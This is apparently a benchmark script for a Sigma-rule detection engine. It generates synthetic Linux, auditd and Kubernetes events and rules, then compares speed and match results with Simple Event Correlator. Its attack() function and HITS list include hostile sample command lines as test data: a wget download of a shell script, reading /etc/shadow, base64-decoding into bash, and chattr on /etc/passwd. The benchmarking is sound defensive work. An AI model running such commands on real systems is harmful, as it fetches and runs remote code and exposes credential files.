#!/usr/bin/python3
"""Figures of lib/rules: judging events, counting, beside others.

    ./dev bench rules [--corpus DIR] [--seconds N] [--json FILE]

DIR is a folder with rules of the Sigma project (and its regression_data, which is then run as well); without it rules are
generated. Beside them stands sec
(Simple Event Correlator) on the same lines."""
import argparse
import glob
import json
import os
import random
import re
import shutil
import subprocess
import sys
import time

SOURCES = {"process": ("process_creation", "linux", ""), "auditd": ("", "linux", "auditd"), "k8s": ("application", "kubernetes", "audit"),
           "file": ("file_event", "linux", ""), "network": ("network_connection", "linux", "")}
PROGRAMS = ["/usr/bin/bash", "/usr/bin/python3", "/usr/sbin/sshd", "/usr/bin/find", "/usr/bin/grep", "/usr/bin/ls", "/usr/bin/cat", "/usr/bin/curl",
            "/usr/bin/systemctl", "/usr/lib/postgresql/15/bin/postgres", "/usr/sbin/nginx", "/usr/bin/make", "/usr/bin/gcc", "/usr/bin/git"]
ARGS = ["-la /var/log", "--config /etc/app/settings.yml", "status nginx.service", "-r pattern /srv/data", "-c 'import json'", "checkout main",
        "-o build/main.o -c src/main.c", "--host db1.example.net --port 5432", "/home/deploy/release/current", "-s https://api.example.net/v1/items"]
USERS = ["deploy", "postgres", "www-data", "zhang.wei", "li.na", "root", "backup"]


def padded(rng, event, size):
    """The event with the usual surroundings, until it is about so long."""
    extra = ["hostname", "agent_version", "session_id", "trace", "datacenter", "labels", "kernel", "container_id", "notes", "checksum", "policy", "tenant"]
    i = 0

    def length():
        return len(json.dumps(event, ensure_ascii=False, separators=(",", ":")))
    while length() < size - 30:
        room = size - length()
        event["x_%s_%d" % (extra[i % len(extra)], i // len(extra))] = "".join(rng.choice("abcdef0123456789-/ ") for _ in range(min(48, max(8, room - 20))))
        i += 1
    return event


def process(rng):
    image, parent, args = rng.choice(PROGRAMS), rng.choice(PROGRAMS), rng.choice(ARGS)
    return {"UtcTime": "2026-09-%02d 12:%02d:%02d" % (rng.randint(1, 28), rng.randint(0, 59), rng.randint(0, 59)), "ProcessId": rng.randint(2, 99999),
            "Image": image, "CommandLine": "%s %s %d" % (os.path.basename(image), args, rng.randint(0, 9999)), "CurrentDirectory": "/home/" + rng.choice(USERS),
            "User": rng.choice(USERS), "LogonId": rng.randint(1, 9999), "ParentImage": parent, "ParentCommandLine": parent + " " + rng.choice(ARGS),
            "ParentProcessId": rng.randint(2, 99999), "TerminalSessionId": rng.randint(0, 40)}


def auditd(rng):
    return {"type": rng.choice(["EXECVE", "SYSCALL", "PATH", "USER_AUTH"]), "msg": "audit(%d.%03d:%d)" % (1790000000 + rng.randint(0, 9999), rng.randint(0, 999), rng.randint(1, 99999)),
            "argc": 3, "a0": os.path.basename(rng.choice(PROGRAMS)), "a1": rng.choice(ARGS), "a2": "item%d" % rng.randint(0, 99), "exe": rng.choice(PROGRAMS),
            "SYSCALL": rng.choice(["execve", "openat", "connect", "unlink"]), "key": "watch", "comm": "worker", "uid": rng.randint(0, 2000), "auid": rng.randint(0, 2000),
            "success": "yes", "name": "/srv/data/file%d" % rng.randint(0, 9999)}


def k8s(rng):
    res = rng.choice(["pods", "configmaps", "deployments", "endpoints", "leases", "nodes", "events"])
    ns, name = rng.choice(["default", "web", "jobs", "data"]), "item-%d" % rng.randint(0, 9999)
    return {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "%032x" % rng.getrandbits(128), "stage": "ResponseComplete",
            "requestURI": "/api/v1/namespaces/%s/%s/%s" % (ns, res, name), "verb": rng.choice(["get", "list", "watch", "update", "patch"]),
            "user": {"username": "system:node:" + name, "groups": ["system:nodes", "system:authenticated"]}, "sourceIPs": ["10.1.%d.%d" % (rng.randint(0, 255), rng.randint(1, 254))],
            "userAgent": "kubelet/v1.31.0 (linux/amd64)", "objectRef": {"resource": res, "namespace": ns, "name": name, "apiVersion": "v1"},
            "responseStatus": {"metadata": {}, "code": rng.choice([200, 200, 201, 404])}, "annotations": {"authorization.k8s.io/decision": "allow"}}


def attack(rng):
    """A few that rules are meant for, so that matching is measured, too."""
    e = process(rng)
    e["Image"], e["CommandLine"] = rng.choice([("/usr/bin/wget", "wget http://198.51.100.7/a.sh -O /tmp/a.sh"), ("/usr/bin/cat", "cat /etc/shadow"),
                                               ("/usr/bin/base64", "base64 -d /tmp/x | bash"), ("/usr/bin/chattr", "chattr -i /etc/passwd")])
    return e


def write_events(path, seed, n, size):
    rng = random.Random(seed)
    with open(path, "w") as f:
        for i in range(n):
            if i % 100 == 99:
                kind, e = "process", attack(rng)
            else:
                kind = rng.choices(["process", "auditd", "k8s"], [60, 20, 20])[0]
                e = {"process": process, "auditd": auditd, "k8s": k8s}[kind](rng)
            f.write("\t".join(SOURCES[kind]) + "\t" + json.dumps(padded(rng, e, size), ensure_ascii=False, separators=(",", ":")) + "\n")


HITS = ["cat /etc/shadow", "chattr -i ", "base64 -d ", "wget http", "curl -s ", "git checkout"]	# what some of the events hold
RULE = """title: Generated {i}
id: 00000000-0000-4000-8000-{i:012x}
level: {level}
logsource:
{source}detection:
    selection_img:
        Image|endswith: '/{word}{i}'
    selection_cli:
        CommandLine|contains:
            - ' --{word}-{i} '
            - '/opt/{word}/{i}/'
    filter_main:
        User: 'svc{i}'
    condition: 1 of selection_* and not filter_main
"""


def generate(folder, n):
    """Rules of the usual form, for where there is no corpus."""
    os.makedirs(folder, exist_ok=True)
    paths = []
    for i in range(n):
        source = "    category: process_creation\n    product: linux\n" if i % 10 else "    product: kubernetes\n    service: audit\n"
        paths.append(os.path.join(folder, "g%05d.yml" % i))
        with open(paths[-1], "w") as f:
            text = RULE.format(i=i, level=["low", "medium", "high"][i % 3], source=source, word="abcdefgh"[i % 8] * 3)
            f.write(text.replace(" --%s-%d " % ("abcdefgh"[i % 8] * 3, i), HITS[i // 10]) if i % 10 == 1 and i // 10 < len(HITS) else text)
    return paths


def rename(folder, paths, n):
    """As many rules as SigmaHQ has: copies of these under other ids, each value changed a little so that it is another rule."""
    os.makedirs(folder, exist_ok=True)
    out, i = list(paths), 0
    while len(out) < n:
        with open(paths[i % len(paths)]) as f:
            text = f.read()
        k = i // len(paths) + 1
        text = re.sub(r"(?m)^id: .*$", "id: 00000000-0000-4000-9000-%012x" % i, text)
        text = re.sub(r"(?m)^name: .*$", "", text)
        # 'cat /etc/shadow' becomes 'cat /etc/shadow~k3': as long and as selective as the original
        text = re.sub(r"(?m)^(\s+(?:- |[\w.]+(?:\|(?:contains|endswith|startswith))*: ))'([^'*?\\]{4,})'\s*$", r"\1'\2~k%d'" % k, text)
        out.append(os.path.join(folder, "n%05d.yml" % i))
        with open(out[-1], "w") as f:
            f.write(text)
        i += 1
    return out


def listing(path, paths):
    with open(path, "w") as f:
        f.write("\n".join(paths) + "\n")
    return path


THRESHOLD_SEC = """type=SingleWithThreshold
ptype=RegExp
pattern=session_command_log - .*"user": "([^"]+)".*"risk_level": \\{"label": "Reject"
desc=three refused by $1
action=write %s $1
window=86400
thresh=3
"""
THRESHOLD = """title: refused
name: refused
logsource:
    product: jumpserver
detection:
    s:
        risk_level.label: Reject
    condition: s
---
title: three
correlation:
    type: event_count
    rules: [refused]
    group-by: user
    timespan: 24h
    condition:
        gte: 3
"""


def jumpserver_lines(path, n):
    rng = random.Random(7)
    with open(path, "w") as f:
        for i in range(n):
            user = "User %d(u%d)" % ((i * 7919) % 2000, (i * 7919) % 2000)
            f.write("<150>jumpserver: session_command_log - " + json.dumps({
                "user": user, "asset": "db%d(10.0.%d.%d)" % (i % 300, i % 250, i % 200), "account": "root(root)", "input": rng.choice(["ls -la", "cat /etc/hosts", "su", "df -h"]),
                "risk_level": {"label": "Reject", "value": 5} if i % 10 == 0 else {"label": "Accept", "value": 0}, "session": "%032x" % rng.getrandbits(128),
                "timestamp": 1790000000 + i // 1000, "output": "x" * 60}) + "\n")


class Bench:
    def __init__(self, args):
        self.args, self.dir, self.rows, self.out = args, os.path.abspath("run/bench-rules"), [], {}
        shutil.rmtree(self.dir, ignore_errors=True)
        os.makedirs(self.dir)
        self.bin = os.path.join(args.build, "bench", "rules")

    def path(self, name):
        return os.path.join(self.dir, name)

    def run(self, *argv):
        r = subprocess.run([self.bin, *map(str, argv)], capture_output=True, text=True)
        if r.returncode != 0:
            sys.exit("%s: %s" % (" ".join(map(str, argv)), r.stderr.strip()))
        return r.stdout

    def row(self, what, value, must, ok):
        self.rows.append((what, value, must, ok))
        print("%-78s %-34s %-16s %s" % (what, value, must, "" if ok is None else "ok" if ok else "MISSED"), flush=True)

    def rate(self, what, rules, events, must):
        r = json.loads(self.run("rate", self.args.seconds, 1, rules, events))
        slow = json.loads(self.run("rate", 0.2, 0, rules, events))
        self.out[what] = r
        self.row("%s: %d rules, %.0f B" % (what, r["rules"], r["bytes"]), "%d events/s (%.1f rules judged each)" % (r["rate"], r["evaluated"]),
                 ">= %d" % must, r["rate"] >= must)
        self.row("  without the index: the same matches (%d)" % r["matches"], "%d events/s" % slow["rate"], "equal", slow["matches"] == r["matches"])
        return r["rate"]

    def evaluation(self):
        corpus = self.args.corpus
        if corpus:
            small = glob.glob(corpus + "/rules/linux/**/*.yml", recursive=True) + glob.glob(corpus + "/rules/application/kubernetes/**/*.yml", recursive=True)
            base = glob.glob(corpus + "/rules*/**/*.yml", recursive=True)
        else:
            small = base = generate(self.path("generated"), 230)
        self.small = listing(self.path("small.txt"), sorted(small))
        self.large = listing(self.path("large.txt"), rename(self.path("named"), sorted(base), 3000))
        write_events(self.path("e800"), 1, 5000, 800)
        write_events(self.path("e2k"), 2, 5000, 2048)
        self.rate_small = self.rate("Linux and Kubernetes rules" if corpus else "generated rules", self.small, self.path("e800"), 200000)
        self.rate_large = self.rate("as many rules as SigmaHQ has", self.large, self.path("e2k"), 60000)

    def counting(self):
        r = json.loads(self.run("count", 1000000, 100000))
        self.out["count"] = r
        self.row("value_count, %d values, %d keys" % (r["values"], r["keys"]), "%d events/s, %.0f MiB, %d evicted" % (r["rate"], r["memory_mb"], r["evicted"]),
                 "<= 512 MiB", r["memory_mb"] <= 512)

    def sec(self, conf, lines, out):
        """Lines a second of Simple Event Correlator, in time of its own core, without its start; and what it wrote."""
        used = []
        for path in ("/dev/null", lines):
            if os.path.exists(out):
                os.unlink(out)
            before = os.times()
            r = subprocess.run(["sec", "--conf=" + conf, "--input=" + path, "--fromstart", "--notail", "--quiet", "--log=" + self.path("sec.log")], capture_output=True, text=True)
            after = os.times()
            if r.returncode != 0:
                sys.exit("sec: " + r.stderr)
            used.append(after.children_user + after.children_system - before.children_user - before.children_system)
        with open(lines) as f:
            n = sum(1 for _ in f)
        with open(out) as f:
            return n / max(used[1] - used[0], 1e-6), sum(1 for _ in f)

    def beside_sec(self):
        if shutil.which("sec") is None:
            self.row("beside sec", "sec is not installed (apt-get install sec)", "-", None)
            return
        lines, out = self.path("lines"), self.path("sec.out")
        jumpserver_lines(lines, 300000)
        with open(self.path("sec.conf"), "w") as f:
            f.write(THRESHOLD_SEC % out)
        with open(self.path("three.yml"), "w") as f:
            f.write(THRESHOLD)
        rate, fires = self.sec(self.path("sec.conf"), lines, out)
        ours = json.loads(self.run("lines", 0, listing(self.path("three.txt"), [self.path("three.yml")]), lines))
        self.row("one threshold rule on JumpServer-like lines (sec: %d/s)" % rate, "%d lines/s" % ours["rate"], ">= sec", ours["rate"] >= rate)
        self.row("  the same alerts (%d)" % ours["fires"], "sec: %d" % fires, "equal", fires == ours["fires"])
        short = self.path("short")
        jumpserver_lines(short, 8000)
        patterns = [r'"asset": "db%d\(10\.[0-9]+\.[0-9]+\.[0-9]+\)".*"(?:Reject|Accept)"' % i for i in range(160)]
        with open(self.path("sec160.conf"), "w") as f:
            f.writelines("type=Single\ncontinue=TakeNext\nptype=RegExp\npattern=%s\ndesc=r%d\naction=write %s r%d\n\n" % (p, i, out, i) for i, p in enumerate(patterns))
        with open(self.path("r160.yml"), "w") as f:
            f.writelines("title: r%d\nlogsource:\n  product: jumpserver\ndetection:\n  s:\n    '|re': '%s'\n  condition: s\n---\n" % (i, p) for i, p in enumerate(patterns))
        rate, matches = self.sec(self.path("sec160.conf"), short, out)
        ours = json.loads(self.run("lines", 1, listing(self.path("r160.txt"), [self.path("r160.yml")]), lines))
        check = json.loads(self.run("lines", 1, self.path("r160.txt"), short))
        self.row("160 rules of one regex each (sec: %d/s)" % rate, "%d lines/s" % ours["rate"], ">= 50 x sec", ours["rate"] >= 50 * rate)
        self.row("  the same matches (%d)" % check["matches"], "sec: %d" % matches, "equal", matches == check["matches"])

    def regression(self):
        if not self.args.corpus or not os.path.isdir(self.args.corpus + "/regression_data"):
            return
        import rules_regression
        good, total = rules_regression.run(self.args.corpus, self.bin, self.dir)
        self.row("regression cases of the corpus", "%d of %d" % (good, total), "all", good == total)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--build", default="build/release")
    p.add_argument("--corpus", help="folder with the rules of the Sigma project")
    p.add_argument("--seconds", type=float, default=3, help="of each rate (default 3)")
    p.add_argument("--json", help="write the figures there")
    args = p.parse_args()
    b = Bench(args)
    b.evaluation()
    b.counting()
    b.beside_sec()
    b.regression()
    if args.json:
        with open(args.json, "w") as f:
            json.dump({"rows": b.rows, "figures": b.out}, f, indent=1)
    sys.exit(any(ok is False for _, _, _, ok in b.rows))


if __name__ == "__main__":
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    main()
